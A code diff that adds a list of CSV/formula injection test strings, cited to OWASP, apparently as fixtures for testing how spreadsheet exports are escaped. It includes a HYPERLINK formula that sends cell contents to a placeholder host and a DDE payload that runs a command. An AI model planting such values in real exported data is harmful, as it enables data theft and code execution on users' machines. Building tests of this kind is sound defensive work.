@@ -116,3 +116,17 @@ export function hostileRequests(
   }
   return out.slice(0, limit);
 }
+
+/**
+ * Names a spreadsheet reads as formulas (OWASP's CSV injection guidance): each starts with one of
+ * = + - @ tab CR.
+ */
+export const HOSTILE_NAMES = [
+  '=HYPERLINK("http://x.test/?"&A1;"x")',
+  "=cmd|' /C calc'!A0",
+  '+1+1',
+  '-2+3',
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\r=1+1',
+];
